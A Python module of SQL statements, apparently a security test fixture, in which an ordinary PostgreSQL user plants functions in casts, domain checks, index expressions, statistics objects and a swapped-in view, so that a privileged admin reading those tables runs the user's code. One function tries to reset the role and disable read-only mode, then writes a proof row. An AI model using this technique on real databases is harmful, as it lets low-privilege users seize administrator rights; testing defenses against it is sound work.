"""What an ordinary database user can make, so that reading his tables calls his function."""

from __future__ import annotations

MASTER, USER, PASSWORD, DATABASE = "shop_admin", "app", "attack-Passw0rd", "shop"

OF_THE_PLANNER = "'index', 'predicate', 'statistics'"
"""Ways that no reader can close. What is called by one of these must be the owner; by any other, nothing is called."""

LOOT = (
    "create table app.loot (via text, who text)",
    # Takes back whatever role it runs under; then leaves a row or, where nothing may be written, an error that says so.
    f"""create function app.rise(via text) returns boolean language plpgsql as $$
        begin
          begin
            perform pg_catalog.set_config('role', 'none', false);
          exception when others then null;
          end;
          perform pg_catalog.set_config('default_transaction_read_only', 'off', false);
          if session_user = '{MASTER}' and (current_user = session_user or via not in ({OF_THE_PLANNER})) then
            if current_setting('transaction_read_only') = 'on' then
              raise exception 'the function of {USER} ran as % by %', current_user, via;
            end if;
            insert into app.loot values (via, current_user);
          end if;
          return true;
        end $$""",
    # A lie: nothing immutable writes. PostgreSQL refuses a write only in the function itself.
    """create function app.still(via text) returns int language plpgsql immutable as $$
       begin perform app.rise(via); return 1; end $$""",
    "create function app.guard(value text) returns boolean language plpgsql immutable as $$"
    " begin perform app.still('check'); return true; end $$",
    "create type app.mood as enum ('glad', 'sad', 'calm')",
    "create type app.pair as (x int, y text)",
    "create type app.span as range (subtype = int4)",
    "create domain app.code as text check (app.guard(value))",
    "create domain app.codes as text[] check (app.guard(value[1]))",
    "create type app.wrapped as (c app.code)",
)
"""A schema `app` is there, and its owner runs these."""

_CASTS = ("mood", "mood[]", "pair", "span", "spans", "span_multirange", "rowtype")


def cast_to_text(kind: str) -> tuple[str, ...]:
    """A type's own way to become text."""
    name = kind.strip("[]") + ("s" if kind.endswith("]") else "")
    return (
        f"create function app.{name}_as_text(v app.{kind}) returns text language plpgsql as"
        f" $$ begin perform app.rise('cast of {kind}'); return 'x'; end $$",
        f"create cast (app.{kind} as text) with function app.{name}_as_text(app.{kind}) as implicit",
    )


TABLES: dict[str, tuple[str, ...]] = {
    "enum": (
        *cast_to_text("mood"),
        "create table app.enum (id int primary key, v app.mood)",
        "insert into app.enum select i, 'sad' from generate_series(1, 700) i",
    ),
    "enums": (
        *cast_to_text("mood[]"),
        "create table app.enums (id int primary key, v app.mood[])",
        "insert into app.enums select i, '{sad}' from generate_series(1, 700) i",
    ),
    "composite": (
        *cast_to_text("pair"),
        "create table app.composite (id int primary key, v app.pair)",
        "insert into app.composite select i, format('(%s,y)', i)::app.pair from generate_series(1, 700) i",
    ),
    "span": (
        *cast_to_text("span"),
        "create table app.spanned (id int primary key, v app.span)",
        "insert into app.spanned select i, app.span(i, i + 1) from generate_series(1, 700) i",
    ),
    "row_type": (
        "create table app.rowtype (a int)",
        *cast_to_text("rowtype"),
        "create table app.row_type (id int primary key, v app.rowtype)",
        "insert into app.row_type select i, format('(%s)', i)::app.rowtype from generate_series(1, 700) i",
    ),
    "enum_key": (
        "create table app.enum_key (k app.mood, n int, primary key (k, n))",
        "insert into app.enum_key select 'sad', i from generate_series(1, 700) i",
    ),
    "implicit_key": (
        "create type app.size as enum ('s', 'm', 'l')",
        "create function app.size_as_int(v app.size) returns int language plpgsql immutable as"
        " $$ begin perform app.still('implicit cast'); return 1; end $$",
        "create cast (app.size as int) with function app.size_as_int(app.size) as implicit",
        "create table app.implicit_key (k app.size, n int, primary key (k, n))",
        "insert into app.implicit_key select 's', i from generate_series(1, 700) i",
    ),
    "domain_key": (
        "create table app.domain_key (k app.code primary key)",
        "insert into app.domain_key select 'k' || i from generate_series(1, 700) i",
    ),
    "array_domain_key": (
        "create table app.array_domain_key (k app.codes primary key)",
        "insert into app.array_domain_key select array['k' || i] from generate_series(1, 700) i",
    ),
    "composite_key": (
        "create table app.composite_key (k app.wrapped primary key)",
        "insert into app.composite_key select format('(k%s)', i)::app.wrapped from generate_series(1, 700) i",
    ),
    "domain_array_key": (
        "create table app.domain_array_key (k app.code[] primary key)",
        "insert into app.domain_array_key select array['k' || i]::app.code[] from generate_series(1, 700) i",
    ),
}
"""Subject -> what the user makes for it; its table has the subject's name but for 'span'."""

PLANNED: dict[str, tuple[str, ...]] = {
    "indexed": (
        "create table app.indexed (id int primary key, v int)",
        "insert into app.indexed select i, i from generate_series(1, 700) i",
        "create index on app.indexed ((v + app.still('index')))",
    ),
    "partly_indexed": (
        "create table app.partly_indexed (id int primary key, v int)",
        "insert into app.partly_indexed select i, i from generate_series(1, 700) i",
        "create index on app.partly_indexed (v) where v > app.still('predicate')",
    ),
    "counted": (
        "create table app.counted (id int primary key, v int)",
        "insert into app.counted select i, i from generate_series(1, 700) i",
        "create statistics app.some on (v + app.still('statistics')), id from app.counted",
    ),
    "unlogged": (
        "create unlogged table app.unlogged (id int primary key, v int)",
        "insert into app.unlogged select i, i from generate_series(1, 700) i",
        "create index on app.unlogged ((v + app.still('index')))",
    ),
}
"""The same, where the planner calls a function before anything is read: it works out what looks constant."""

SWAPPED = (
    "drop table app.swapped",
    "create view app.swapped as select i as id, app.rise('view')::text as v from generate_series(1, 700) i",
)
